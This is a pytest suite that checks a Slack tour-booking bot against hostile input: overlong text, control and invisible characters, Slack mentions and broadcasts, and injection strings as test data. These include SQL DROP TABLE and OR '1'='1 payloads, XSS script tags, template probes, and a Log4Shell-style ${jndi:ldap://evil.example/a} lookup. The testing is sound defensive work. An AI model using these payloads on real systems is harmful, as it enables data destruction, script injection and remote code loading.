"""Hostile input through the real server: very long text, control characters, emoji, right-to-left
text, Slack markup and mentions, and text that looks like injection. Each gets a clear error under
the right input or is shown escaped; never a crash, a traceback, or a message Slack refuses."""

from __future__ import annotations

import json
import logging
from collections.abc import AsyncIterator, Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
from slack_sdk.models.views import View

from bot.booking.text import unwanted
from bot.offline.propexo import SimulatorServer
from bot.offline.slack import DEFAULT_AGENT_ID, DEFAULT_CHANNEL_ID, SlackStandIn
from bot.store import BookingState
from tests.harness import RunningBot, running_bot

CREATE = "POST /crm/v1/appointments/eliseai"
# Markup that would be live in Slack's mrkdwn: a mention, a broadcast, a disguised link.
LIVE_MARKUP = (
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<@U0HOSTILE>",
    "<#C0SECRET>",
    "<!subteam^S0HOSTILE>",
    "<https://evil.example|",
)
MARKUP_NAME = "<!channel> <@U0HOSTILE>"
MARKUP_LAST = "*bold* <https://evil.example|click> <!here> <!subteam^S0HOSTILE>"
BOOK_TEXT = "jane@example.com tomorrow at 3pm"


@pytest.fixture(autouse=True)
def no_tracebacks(caplog: pytest.LogCaptureFixture) -> Iterator[None]:
    """Whatever the input, nothing is logged as an error and no traceback is written."""
    caplog.set_level(logging.INFO)
    yield
    broken = [r for r in caplog.records if r.exc_info or r.exc_text or r.levelno >= logging.ERROR]
    assert not broken, [f"{r.name}: {r.getMessage()}" for r in broken]


@pytest.fixture
async def slack() -> AsyncIterator[SlackStandIn]:
    async with SlackStandIn() as stand_in:
        yield stand_in


@pytest.fixture
async def bot(
    slack: SlackStandIn, propexo_sim: SimulatorServer, tmp_path: Path
) -> AsyncIterator[RunningBot]:
    async with running_bot(slack, propexo_sim, tmp_path / "tourbot.db") as running:
        yield running


# -- what the bot showed ---------------------------------------------------------------------------


def mrkdwn(node: object) -> Iterator[str]:
    """Every mrkdwn text inside a block, a view, or a list of them."""
    if isinstance(node, Mapping):
        if node.get("type") == "mrkdwn" and isinstance(node.get("text"), str):
            yield node["text"]
        for value in node.values():
            yield from mrkdwn(value)
    elif isinstance(node, list):
        for item in node:
            yield from mrkdwn(item)


def shown(bot: RunningBot, *answers: Mapping[str, Any]) -> list[str]:
    """Every text Slack would parse as markup: messages' `text` (notifications read it), their
    blocks, every view the bot opened, updated or pushed, and views in acks."""
    texts: list[str] = []
    for call in bot.slack.calls:
        if call.method in ("chat.postMessage", "chat.update", "chat.postEphemeral", "response_url"):
            if isinstance(call.args.get("text"), str) and call.args.get("mrkdwn") is not False:
                texts.append(call.args["text"])
            texts += mrkdwn(call.args.get("blocks"))
        elif call.method.startswith("views."):
            texts += mrkdwn(call.args.get("view"))
    for answer in answers:
        texts += mrkdwn(answer.get("view"))
    return texts


def assert_nothing_live(texts: list[str]) -> None:
    for text in texts:
        for markup in LIVE_MARKUP:
            assert markup not in text, f"{markup} is live in: {text}"


def assert_slack_took_everything(bot: RunningBot) -> None:
    # A zone update racing a fast submission (not_found, hash_conflict) is expected and handled.
    refused = [
        (c.method, c.response)
        for c in bot.slack.calls
        if c.method != "response_url"
        and not c.ok
        and not (c.method == "views.update" and c.error in ("not_found", "hash_conflict"))
    ]
    assert not refused


async def open_form(bot: RunningBot, text: str = "") -> str:
    response = await bot.agent.command(text)
    assert (response.status_code, response.text) == (200, "")
    [opened] = await bot.slack.wait_for("views.open")
    assert opened.ok, opened.response
    View(**opened.args["view"]).validate_json()
    view_id: str = opened.response["view"]["id"]
    return view_id


def parent_heading(bot: RunningBot) -> str:
    """The first line of the booking's parent message, as its blocks show it."""
    [parent] = bot.slack.messages(DEFAULT_CHANNEL_ID)
    assert parent.blocks
    return str(parent.blocks[0]["text"]["text"])


async def thread_of_three(bot: RunningBot) -> None:
    """The parent message, then submitted and confirmed in its thread."""
    await bot.slack.wait_for(
        "chat.postMessage",
        3,
        timeout=10,
        where=lambda call: call.args.get("channel") == DEFAULT_CHANNEL_ID,
    )


# -- /tour <text> ------------------------------------------------------------------------------

TOUR_TEXTS = {
    "very long": "Jane Doe jane@example.com tomorrow at 3pm " + "and more words " * 250,
    "control characters": "Jane\x00 Doe\x07 jane@example.com\x1b[31m tomorrow\r\n at 3pm\x7f",
    "emoji": "Jane 😀 Doe jane@example.com tomorrow at 3pm 🏠👍🏽 2br",
    "right to left": "\u202eJane Doe\u202c jane@example.com מחר tomorrow at 3pm مرحبا \u200f",
    "mentions and markup": f"{MARKUP_NAME} Doe {MARKUP_LAST} jane@example.com tomorrow at 3pm",
    "sql": "Robert'); DROP TABLE bookings;-- jane@example.com tomorrow at 3pm",
    "templates": "{{7*7}} ${jndi:ldap://x} %s%n jane@example.com tomorrow at 3pm",
    "json": '{"first_name": "Jane", "tour_time": "tomorrow"} jane@example.com',
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)> tomorrow at 3pm",
    "byte order mark": "\ufeffJane Doe jane@example.com tomorrow at 3pm",
    "only noise": "\u200b\u200b\u200b ‮ ",
    "hidden in a name and notes": "Jane D\u200boe jane@example.com tomorrow at 3pm. Notes: call "
    "af\u200bter 5 \u202eplease \U000e0041",
}


@pytest.mark.parametrize("text", TOUR_TEXTS.values(), ids=TOUR_TEXTS.keys())
async def test_tour_text_opens_a_valid_form(bot: RunningBot, text: str) -> None:
    view_id = await open_form(bot, text)
    await bot.slack.wait_for("views.update")  # the agent's zone, after opening
    view = bot.slack.view(view_id)
    assert view is not None
    View(**view.to_json()).validate_json()
    # Read without the characters nobody can see: the form it fills does not refuse itself.
    assert unwanted(json.dumps(view.blocks, ensure_ascii=False)) is None
    assert_nothing_live(shown(bot))
    assert_slack_took_everything(bot)


async def test_tour_text_with_a_time_phrase_longer_than_an_input_holds(bot: RunningBot) -> None:
    await open_form(bot, "Jane Doe jane@example.com " + "tomorrow at 3pm " * 200)


async def test_tour_text_with_a_date_at_the_end_of_the_calendar(bot: RunningBot) -> None:
    await open_form(bot, "Jane Doe jane@example.com 12/31/9999 11pm")


# -- the form, field by field ---------------------------------------------------------------------

PROBLEMS = [
    ("first_name", "J" * 101, "First name must be at most 100 characters"),
    ("last_name", "😀" * 60, "Last name must be at most 100 characters"),
    ("tour_time", "tomorrow at 3pm " * 20, "Tour time must be at most 200 characters"),
    ("notes", "x" * 1001, "Notes must be at most 1,000 characters"),
    ("email", "<!channel>@example.com", "Email must look like name@example.com"),
    ("email", "jane@example.com'; DROP TABLE bookings;--", "Email must look like"),
    ("email", "\u202ejane@example.com", "Email holds a direction override (U+202E) that nobody"),
    ("first_name", "Jane\x00", "First name holds a control character (U+0000) that nobody"),
    ("notes", "a\u200bb", "Notes holds a zero-width space (U+200B) that nobody can see"),
    ("phone", "<@U0HOSTILE>", "Phone must be a number like"),
    ("phone", "555-201-7788; DROP TABLE bookings", "Phone must be a number like"),
    ("phone", "٥٥٥٢٠١٧٧٨٨", "Phone must be a number like"),
    ("rent_min", "$1,800<script>", "Minimum rent must be an amount in dollars"),
    ("rent_max", "{{7*7}}", "Maximum rent must be an amount in dollars"),
    ("rent_max", "9" * 400, "Maximum rent must be at most"),
    ("lease_term", "12); DROP", "Lease term must be a whole number of months"),
    ("move_in_date", "2027-02-30", "Move-in date must be a date like"),
    ("bedrooms", '{"n": 2}', "Bedrooms must be studio, 1, 2, 3 or 4+"),
    ("tour_type", "<b>VIP</b>", "Tour type must be"),
    ("community", "cmty_1' OR '1'='1", "Community must be picked from the list"),
    ("prospect", "p" * 300, "Prospect must be picked from the search"),
    ("tour_time", "{{7*7}} <!channel>", None),
    ("tour_time", "\x00\x01\x02", "Tour time holds a control character (U+0000)"),
    ("tour_time", "🕒🕒🕒", None),
    ("tour_time", "غدا الساعة ٣", None),
]


@pytest.mark.parametrize(
    ("field", "typed", "problem"), PROBLEMS, ids=[f"{f}:{t[:20]!r}" for f, t, _ in PROBLEMS]
)
async def test_a_bad_value_gets_a_clear_error_under_its_input(
    bot: RunningBot, field: str, typed: str, problem: str | None
) -> None:
    view_id = await open_form(bot, f"Jane Doe {BOOK_TEXT}")
    answer = await bot.agent.submit(view_id, {field: typed})
    assert answer["response_action"] == "errors", answer
    assert set(answer["errors"]) == {field}
    message = answer["errors"][field]
    assert message.startswith(problem) if problem else message.strip()
    assert len(message) < 500 and "Traceback" not in message
    assert bot.propexo.state.requests_to(*CREATE.split(" ", 1)) == []
    assert_slack_took_everything(bot)


def as_sent(typed: str) -> str:
    """What the form keeps of a name: one line (characters nobody can see are refused)."""
    return " ".join(typed.split())


# -- accepted, and shown escaped --------------------------------------------------------------

STRANGE_BUT_VALID = {
    "emoji": ("Zoë 😀", "O'Brien-Ñúñez 🏠"),
    "right to left": ("مريم", "כהן"),
    "sql": ("Robert'); DROP TABLE bookings;--", "x' OR '1'='1"),
    "templates": ("{{7*7}}", "${jndi:ldap://evil.example/a} %s %n"),
    "json and html": ('{"a": [1, 2]}', "<script>alert(1)</script> &amp; &lt;"),
    "joiners": ("\u0645\u0647\u200c\u0633\u0627", "Doe \U0001f468\u200d\U0001f469"),
}


@pytest.mark.parametrize(
    ("first", "last"), STRANGE_BUT_VALID.values(), ids=STRANGE_BUT_VALID.keys()
)
async def test_strange_names_are_booked_as_typed_and_shown_intact(
    bot: RunningBot, first: str, last: str
) -> None:
    view_id = await open_form(bot, BOOK_TEXT)
    assert await bot.agent.submit(view_id, {"first_name": first, "last_name": last}) == {}
    await thread_of_three(bot)
    [booked] = bot.propexo.state.appointments
    assert booked.body["first_name"] == as_sent(first)
    assert booked.body["last_name"] == as_sent(last)
    [stored] = await bot.tourbot.store.bookings_for_user(DEFAULT_AGENT_ID)
    assert stored.state is BookingState.CONFIRMED
    escaped = booked.body["first_name"].replace("&", "&amp;").replace("<", "&lt;")
    assert escaped.replace(">", "&gt;") in parent_heading(bot)
    assert_slack_took_everything(bot)


async def test_markup_in_a_name_is_escaped_in_the_thread(bot: RunningBot) -> None:
    view_id = await open_form(bot, BOOK_TEXT)
    answer = await bot.agent.submit(
        view_id, {"first_name": MARKUP_NAME, "last_name": MARKUP_LAST, "notes": "<!here> hi"}
    )
    assert answer == {}
    await thread_of_three(bot)
    heading = parent_heading(bot)
    assert "&lt;!channel&gt; &lt;@U0HOSTILE&gt;" in heading
    assert "&lt;https://evil.example|click&gt;" in heading
    blocks = [t for c in bot.slack.calls for t in mrkdwn(c.args.get("blocks"))]
    assert blocks
    assert_nothing_live(blocks)
    [booked] = bot.propexo.state.appointments
    assert booked.body["first_name"] == MARKUP_NAME  # sent as typed: escaping is for Slack only
    assert booked.body["notes"] == "<!here> hi"


async def test_markup_in_a_name_is_escaped_in_the_notification_text(bot: RunningBot) -> None:
    view_id = await open_form(bot, BOOK_TEXT)
    await bot.agent.submit(view_id, {"first_name": MARKUP_NAME, "last_name": MARKUP_LAST})
    await thread_of_three(bot)
    assert_nothing_live(shown(bot))


async def test_markup_in_a_name_is_escaped_in_the_time_confirmation(bot: RunningBot) -> None:
    view_id = await open_form(bot, "jane@example.com tomorrow at 9:30pm")
    answer = await bot.agent.submit(view_id, {"first_name": MARKUP_NAME, "last_name": MARKUP_LAST})
    assert answer["response_action"] == "push"
    assert_nothing_live(list(mrkdwn(answer["view"])))


async def test_markup_in_propexos_answer_is_escaped_in_the_thread_blocks(bot: RunningBot) -> None:
    bot.propexo.add_fault(CREATE, "status", status=400, message="<!channel> is not <@U0HOSTILE>")
    view_id = await open_form(bot, f"Jane Doe {BOOK_TEXT}")
    await bot.agent.submit(view_id)
    await bot.slack.wait_for(
        "chat.postMessage", 2, where=lambda c: c.args.get("channel") == DEFAULT_CHANNEL_ID
    )
    reply = bot.slack.calls_to("chat.postMessage")[-1]
    text = "\n".join(mrkdwn(reply.args["blocks"]))
    assert "&lt;!channel&gt; is not &lt;@U0HOSTILE&gt;" in text
    assert_nothing_live(list(mrkdwn(reply.args["blocks"])))


async def test_markup_in_propexos_answer_is_escaped_in_the_notification(bot: RunningBot) -> None:
    bot.propexo.add_fault(CREATE, "status", status=400, message="<!channel> is not <@U0HOSTILE>")
    view_id = await open_form(bot, f"Jane Doe {BOOK_TEXT}")
    await bot.agent.submit(view_id)
    await bot.slack.wait_for(
        "chat.postMessage", 2, where=lambda c: c.args.get("channel") == DEFAULT_CHANNEL_ID
    )
    reply = bot.slack.calls_to("chat.postMessage")[-1]
    assert_nothing_live([reply.args["text"]])


async def test_sql_in_every_field_leaves_the_store_intact(bot: RunningBot) -> None:
    sql = "'); DROP TABLE bookings;--"
    view_id = await open_form(bot, BOOK_TEXT)
    answer = await bot.agent.submit(
        view_id, {"first_name": f"Jane{sql}", "last_name": sql, "notes": f'{sql} " ` \\'}
    )
    assert answer == {}
    await thread_of_three(bot)
    [stored] = await bot.tourbot.store.bookings_for_user(DEFAULT_AGENT_ID)
    assert stored.form_values["last_name"] == sql
    assert stored.body["notes"] == f'{sql} " ` \\'


# -- typing and searching ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "typed",
    ["<!channel> fri 2pm", "\x00\x1b fri 2pm", "😀 fri 2pm 😀", "{{7*7}}", "x" * 3000],
    ids=["markup", "control", "emoji", "template", "3000 characters"],
)
async def test_typing_strange_times_updates_the_preview_safely(bot: RunningBot, typed: str) -> None:
    view_id = await open_form(bot)
    await bot.slack.wait_for("views.update")
    response = await bot.agent.type_into(view_id, "tour_time", typed)
    assert response.status_code == 200
    [_, preview] = await bot.slack.wait_for("views.update", 2)
    assert preview.ok, preview.response
    assert_nothing_live(shown(bot))


async def test_typing_an_absurd_duration_updates_the_preview(bot: RunningBot) -> None:
    view_id = await open_form(bot)
    await bot.slack.wait_for("views.update")
    await bot.agent.type_into(view_id, "tour_time", "in 9999999999999 hours")
    [_, preview] = await bot.slack.wait_for("views.update", 2, timeout=2)
    assert preview.ok


async def test_submitting_a_date_at_the_end_of_the_calendar(bot: RunningBot) -> None:
    view_id = await open_form(bot, f"Jane Doe {BOOK_TEXT}")
    answer = await bot.agent.submit(view_id, {"tour_time": "12/31/9999 11pm"})
    assert answer["response_action"] == "errors" and set(answer["errors"]) == {"tour_time"}


@pytest.mark.parametrize(
    "query",
    ["<!channel>", "'; DROP TABLE prospects;--", "\x00\x07", "😀", "ج" * 5000, "{{7*7}}"],
    ids=["markup", "sql", "control", "emoji", "5000 rtl", "template"],
)
async def test_strange_searches_answer_a_valid_list(bot: RunningBot, query: str) -> None:
    view_id = await open_form(bot)
    for action_id in ("prospect", "community"):
        response = await bot.agent.suggest(view_id, action_id, query)
        assert response.status_code == 200
        options = response.json()["options"]
        assert len(options) <= 100
        assert all(len(o["text"]["text"]) <= 75 and len(o["value"]) <= 150 for o in options)


async def test_a_forged_huge_submission_is_answered_not_crashed(bot: RunningBot) -> None:
    view_id = await open_form(bot, f"Jane Doe {BOOK_TEXT}")
    everything = {key: "x" * 20_000 for key in ("first_name", "last_name", "email", "notes")}
    answer = await bot.agent.submit(view_id, everything)
    assert answer["response_action"] == "errors"
    assert set(answer["errors"]) == {"first_name", "last_name", "email", "notes"}
